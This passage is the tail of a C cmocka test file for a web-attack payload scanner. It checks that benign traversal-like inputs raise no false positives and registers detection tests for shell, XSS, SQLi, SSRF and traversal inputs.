		int n = payload_scan(clean_trav[i], strlen(clean_trav[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		for (int k = 0; k < n; k++)
			if (m[k].kind == PAYLOAD_TRAVERSAL)
				fail_msg("%s: %s", clean_trav[i], m[k].why);
	}
	payload_cache_enable(1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_shell_exits_let_attacks_through),
		cmocka_unit_test(test_ua_attacks_found),
		cmocka_unit_test(test_exits_keep_prose_clean),
		cmocka_unit_test(test_trav_exits_let_attacks_through),
		cmocka_unit_test(test_xss_exits_let_attacks_through),
		cmocka_unit_test(test_sqli_quiet_lets_attacks_through),
		cmocka_unit_test(test_ssrf_exits_let_attacks_through),
		cmocka_unit_test(test_ssrf_browser_names),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
